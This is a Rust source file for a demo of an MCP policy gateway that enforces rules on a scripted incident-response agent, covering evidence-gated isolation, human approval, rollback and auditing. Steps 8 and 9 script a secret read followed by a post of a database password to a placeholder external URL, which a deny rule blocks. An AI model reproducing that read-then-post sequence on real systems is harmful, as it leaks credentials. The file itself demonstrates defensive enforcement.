//! `tollgate demo`: the reference scenario, run by a scripted agent through
//! the MCP gateway against the example tool server, in one command and a
//! temporary directory. Everything is real: the server, the decisions, the
//! audit log, the tool server's state file; only the agent and the approver
//! are scripted.

use crate::client::{Client, IncidentRef, NewEvidence, OpenTask, ResourceRef};
use crate::Conn;
use anyhow::{bail, Context, Result};
use rmcp::model::{CallToolRequestParams, CallToolResult};
use rmcp::service::RunningService;
use rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig;
use rmcp::{RoleClient, ServiceExt};
use serde_json::{json, Map, Value};
use std::path::{Path, PathBuf};
use std::sync::Arc;

const AGENT: &str = "spiffe://acme.test/agent/ir-responder/demo-1";

fn text(r: &CallToolResult) -> String {
    r.content
        .iter()
        .filter_map(|c| c.as_text().map(|t| t.text.clone()))
        .collect::<Vec<_>>()
        .join(" ")
}

/// `s` on lines of at most [`WIDTH`] characters, words kept whole, the
/// continuation lines indented under the first: reasons are read in full
/// ("… triggered by …" is usually at the end), not cut.
fn wrapped(s: &str, indent: usize) -> String {
    const WIDTH: usize = 100;
    let mut out = String::new();
    let mut line = 0usize;
    for word in s.split_whitespace() {
        let n = word.chars().count();
        if line > 0 && line + 1 + n > WIDTH {
            out.push('\n');
            out.push_str(&" ".repeat(indent));
            line = 0;
        } else if line > 0 {
            out.push(' ');
            line += 1;
        }
        out.push_str(word);
        line += n;
    }
    out
}

fn args(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        _ => Map::new(),
    }
}

struct Demo {
    mcp: RunningService<RoleClient, ()>,
    world: PathBuf,
}

impl Demo {
    async fn call(&self, step: &str, tool: &str, a: Value) -> Result<CallToolResult> {
        println!("\n{step}\n  agent → tools/call {tool} {a}");
        let r = self
            .mcp
            .call_tool(CallToolRequestParams::new(tool.to_string()).with_arguments(args(a)))
            .await
            .with_context(|| format!("tools/call {tool}"))?;
        let verdict = if r.is_error == Some(true) {
            "refused"
        } else {
            "done"
        };
        println!("  tollgate ← {verdict}: {}", wrapped(&text(&r), 4));
        Ok(r)
    }

    fn world(&self) -> Result<Value> {
        let text = std::fs::read_to_string(&self.world).with_context(|| {
            format!(
                "reading the tool server's state file {}",
                self.world.display()
            )
        })?;
        Ok(serde_json::from_str(&text)?)
    }

    fn show(&self, what: &str, pointer: &str) -> Result<()> {
        println!(
            "  state file: {what} = {}",
            self.world()?
                .pointer(pointer)
                .cloned()
                .unwrap_or(Value::Null)
        );
        Ok(())
    }
}

pub(crate) fn write_config(dir: &Path) -> Result<(PathBuf, PathBuf, PathBuf)> {
    let config = dir.join("config");
    let data = dir.join("data");
    super::init::write_example(&config)?;
    let token_file = config.join("ir-tools.token");
    let token = tollgate_server::state::random_token("irt_");
    std::fs::write(&token_file, format!("{token}\n"))?;
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&token_file, std::fs::Permissions::from_mode(0o600))?;
    }
    let world = dir.join("ir-world.json");
    let mut yaml = std::fs::read_to_string(config.join("tollgate.yaml"))?;
    yaml.push_str(&format!(
        "mcp:\n  progress_every_seconds: 1\n  upstreams:\n    - name: ir-tools\n      stdio:\n        command: tollgate\n        args: [tools, example, --state, {}, --token-file, {}]\n        env:\n          IR_TOOLS_TOKEN: {{file: ir-tools.token}}\n",
        serde_json::to_string(&world.display().to_string())?,
        serde_json::to_string(&token_file.display().to_string())?,
    ));
    std::fs::write(config.join("tollgate.yaml"), yaml)?;
    Ok((config, data, world))
}

/// A server in this process, on a free loopback port, until the runtime
/// ends; its base URL.
pub(crate) async fn serve_in_process(config: &Path, data: &Path) -> Result<String> {
    let opts = tollgate_server::Options {
        config_dir: Some(config.to_path_buf()),
        data_dir: data.to_path_buf(),
    };
    let state =
        tollgate_server::AppState::open(&opts, Arc::new(tollgate_core::SystemClock)).await?;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let addr = listener.local_addr()?;
    tokio::spawn(tollgate_server::serve(
        state,
        listener,
        std::future::pending(),
    ));
    Ok(format!("http://{addr}"))
}

pub fn run(keep: Option<PathBuf>) -> Result<()> {
    let tmp;
    let kept = keep.is_some();
    let dir = match keep {
        Some(d) => {
            if d.exists() {
                bail!("{} exists; give a new directory", d.display());
            }
            std::fs::create_dir_all(&d)?;
            // Absolute: the tool server runs in a directory of its own and
            // must still find its state and token files.
            std::path::absolute(&d)?
        }
        None => {
            tmp = tempfile::tempdir()?;
            tmp.path().to_path_buf()
        }
    };
    let (config, data, world) = write_config(&dir)?;
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()?;
    let addr = rt.block_on(serve_in_process(&config, &data))?;
    println!("Tollgate demo: the reference scenario through the MCP gateway");
    println!(
        "  gateway  {addr}/mcp   (config {}, data {})",
        config.display(),
        data.display()
    );
    println!(
        "  tools    `tollgate tools example` on stdio, acting on {}",
        world.display()
    );
    let admin = Client::new(&Conn {
        addr: Some(addr.clone()),
        context: None,
        token: None,
        data: Some(data.clone()),
    })?;
    scenario(&rt, &admin, &addr, &world)?;
    if kept {
        println!(
            "\nEverything above is in the audit log and the tool server's state file under {d}.\n\
             Check the log offline:   tollgate audit verify --data {d}/data\n\
             Serve it on a free port: tollgate serve --config {d}/config --data {d}/data --listen 127.0.0.1:0\n\
             then, with the address it prints:\n  \
             tollgate audit timeline --incident INC-4711 --data {d}/data --addr http://127.0.0.1:PORT",
            d = dir.display()
        );
    } else {
        println!(
            "\nEverything above was in a temporary directory, now removed. To keep the audit log\n\
             and the tool server's state, run `tollgate demo --dir ./tollgate-demo` (a new directory)."
        );
    }
    Ok(())
}

/// What the scripted agent and approver hold once enrolled.
struct Enrolled {
    /// The agent, with its task credential.
    agent: Client,
    task_id: String,
    credential: String,
    /// The approver, with their key.
    approver: Client,
}

/// Identity and task (REST, as in the walkthrough), and an approver.
fn enrol(admin: &Client) -> Result<Enrolled> {
    let registered = admin.register_agent(AGENT, "alice@acme.test")?;
    let join_token = registered.value.join_token.context("no join token")?;
    let svid = admin.attest(&join_token)?.svid;
    let task = admin.with_token(&svid).open_task(&OpenTask {
        incident: IncidentRef {
            id: "INC-4711",
            class: "malware",
            severity: "high",
        },
        environment: "prod",
        playbook: "contain-malware",
        intent: "contain the beacon on web-1",
    })?;
    println!(
        "\n1. Agent {AGENT} attests and opens {} on INC-4711 (malware, high)",
        task.task_id
    );
    let approver_key = admin
        .add_approver("ivan@acme.test", "identity", None)?
        .value
        .key;
    Ok(Enrolled {
        agent: admin.with_token(&task.credential),
        task_id: task.task_id,
        credential: task.credential,
        approver: admin.with_token(&approver_key),
    })
}

fn scenario(rt: &tokio::runtime::Runtime, admin: &Client, addr: &str, world: &Path) -> Result<()> {
    let enrolled = enrol(admin)?;
    rt.block_on(async {
        let config = StreamableHttpClientTransportConfig::with_uri(format!("{addr}/mcp"))
            .auth_header(enrolled.credential.clone());
        let mcp = ()
            .serve(rmcp::transport::StreamableHttpClientTransport::from_config(
                config,
            ))
            .await
            .context("MCP handshake with the gateway")?;
        let demo = Demo {
            mcp,
            world: world.to_path_buf(),
        };
        let isolated = demo.investigate_and_contain(&enrolled).await?;
        demo.disable_with_approval(&enrolled.approver).await?;
        demo.roll_back_and_exfiltrate(&isolated).await
    })?;

    // The checkpoint first: fetching it may sign a new one, which is an entry.
    let cp = admin.checkpoint()?.value.checkpoint;
    let head = admin.health()?;
    println!(
        "\nAudit: {} entries, hash-chained; newest signed checkpoint covers {} (root {}…).",
        head.audit_entries,
        cp.tree_size,
        cp.root_hash.chars().take(16).collect::<String>()
    );
    Ok(())
}

impl Demo {
    /// Steps 2 to 5: the tools offered, a read, containment refused before
    /// evidence and allowed after it. Answers the allowed isolation.
    async fn investigate_and_contain(&self, enrolled: &Enrolled) -> Result<CallToolResult> {
        let tools = self.mcp.list_all_tools().await?;
        let mut names: Vec<&str> = tools.iter().map(|t| t.name.as_ref()).collect();
        names.sort();
        println!(
            "\n2. tools/list offers this task {} tools: {}",
            names.len(),
            names.join(", ")
        );

        self.call(
            "3. Investigate: read the EDR alerts (read tier: allowed)",
            "edr_read_alerts",
            json!({"host": "web-1"}),
        )
        .await?;
        self.call(
            "4. Contain before evidence: denied by `contain-with-evidence`",
            "edr_isolate_host",
            json!({"host": "web-1", "reason": "beacon to 203.0.113.7"}),
        )
        .await?;
        self.show("web-1 isolated", "/hosts/web-1/isolated")?;
        let content = "pid 4242 beacon.exe -> 203.0.113.7:443";
        enrolled.agent.add_evidence(
            &enrolled.task_id,
            &NewEvidence {
                resource: ResourceRef {
                    kind: "Host",
                    id: "web-1",
                },
                kind: "process-list",
                sha256: tollgate_core::sha256_hex(content.as_bytes()),
                content,
            },
        )?;
        println!("\n   (the agent records evidence for web-1: a process list)");
        let isolated = self
            .call(
                "5. Contain with evidence: allowed, forwarded, recorded",
                "edr_isolate_host",
                json!({"host": "web-1", "reason": "beacon to 203.0.113.7"}),
            )
            .await?;
        self.show("web-1 isolated", "/hosts/web-1/isolated")?;
        Ok(isolated)
    }

    /// Step 6: a call held open until a human approves it.
    async fn disable_with_approval(&self, approver: &Client) -> Result<()> {
        println!(
            "\n6. Disable the compromised account: needs one human approval; the call is held open"
        );
        println!("  agent → tools/call iam_disable_account {{\"account\":\"jdoe\"}}");
        let held = {
            let peer = self.mcp.peer().clone();
            tokio::spawn(async move {
                peer.call_tool(
                    CallToolRequestParams::new("iam_disable_account").with_arguments(args(
                        json!({"account": "jdoe", "reason": "jdoe's session launched the beacon"}),
                    )),
                )
                .await
            })
        };
        let approval_id = loop {
            if let Some(a) = approver.approvals("pending")?.approvals.value.first() {
                break a.id.clone();
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        };
        tokio::time::sleep(std::time::Duration::from_secs(2)).await;
        println!(
            "  (held: approval {approval_id} pending; jdoe enabled = {})",
            self.world()?["accounts"]["jdoe"]["enabled"]
        );
        approver.vote(&approval_id, true, "confirmed with the account owner")?;
        println!("  approver ivan@acme.test approves (`tollgate approvals approve {approval_id}`)");
        let r = held.await??;
        println!(
            "  tollgate ← {}: {}",
            if r.is_error == Some(true) {
                "refused"
            } else {
                "done"
            },
            wrapped(&text(&r), 4)
        );
        self.show("jdoe enabled", "/accounts/jdoe/enabled")
    }

    /// Steps 7 to 10: the host imaged and its isolation rolled back, a secret read, the egress
    /// after it denied by a chain rule that revokes the task, and the
    /// revoked credential refused.
    async fn roll_back_and_exfiltrate(&self, isolated: &CallToolResult) -> Result<()> {
        let isolate_request = isolated
            .meta
            .as_ref()
            .and_then(|m| m.0.get("tollgate/request_id"))
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_string();
        // The pack releases an isolated host only once it was imaged since
        // (`release-only-after-imaging`, a temporal rule by resource).
        self.call(
            "7. Image web-1, which the pack asks before an isolated host is released",
            "forensics_image_host",
            json!({"host": "web-1"}),
        )
        .await?;
        self.call("   Then roll back the isolation through the gateway (its compensation, decided and audited)", "tollgate_rollback", json!({"request_id": isolate_request})).await?;
        self.show("web-1 isolated", "/hosts/web-1/isolated")?;

        self.call(
            "8. Read a secret (allowed for responders)",
            "vault_read_secret",
            json!({"secret": "prod-db"}),
        )
        .await?;
        self.call("9. Then post data outside: denied by the chain rule `no-egress-after-secret-read`, which revokes the task", "http_post", json!({"url": "https://example.org/upload", "body": "db-password-v1"})).await?;
        self.show("posts sent", "/posts")?;
        println!("\n10. The revoked credential is refused on the next request:");
        match self
            .mcp
            .call_tool(
                CallToolRequestParams::new("edr_read_alerts")
                    .with_arguments(args(json!({"host": "web-1"}))),
            )
            .await
        {
            Ok(r) => bail!("a revoked task still got an answer: {}", text(&r)),
            Err(e) => {
                tracing::debug!(error = %e, "refused as expected");
                println!(
                    "  tollgate ← refused with HTTP 401 before any decision: the task was revoked"
                );
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod wrap_tests {
    use super::wrapped;

    #[test]
    fn reasons_wrap_whole_and_lose_nothing() {
        let reason = "deny: no-egress-after-secret-read: egress after a secret read in this task tree, triggered by req_01abc vault.read_secret on Secret::db-password at 2026-12-03T10:00:00Z";
        let w = wrapped(reason, 4);
        assert_eq!(
            w.split_whitespace().collect::<Vec<_>>(),
            reason.split_whitespace().collect::<Vec<_>>()
        );
        assert!(w.lines().all(|l| l.chars().count() <= 104), "{w}");
        assert!(w.contains("triggered by") && w.lines().count() > 1, "{w}");
    }
}
